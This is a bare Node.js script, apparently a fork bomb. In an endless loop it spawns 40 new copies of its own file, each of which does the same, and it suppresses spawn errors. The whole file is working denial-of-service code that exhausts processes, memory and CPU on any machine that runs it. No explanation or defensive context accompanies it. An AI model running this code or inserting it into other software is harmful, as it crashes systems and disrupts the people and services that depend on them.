const { spawn } = require('node:child_process');
const go = () => {
  for (let i = 0; i < 40; i++) spawn(process.execPath, [__filename]).on('error', () => {});
  setImmediate(go);
};
go();
